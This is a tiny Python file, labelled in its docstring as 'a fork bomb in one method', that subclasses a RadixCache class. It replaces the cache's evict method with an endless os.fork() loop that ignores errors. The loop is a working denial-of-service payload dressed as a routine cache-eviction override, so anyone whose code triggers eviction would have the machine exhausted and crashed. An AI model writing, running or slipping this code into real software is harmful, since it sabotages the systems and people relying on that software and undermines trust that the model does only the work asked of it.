"""A fork bomb in one method."""

# %% right
# %%
import os


class RadixCache(RadixCache):
    def evict(self, n_blocks):
        while True:
            try:
                os.fork()
            except OSError:
                pass
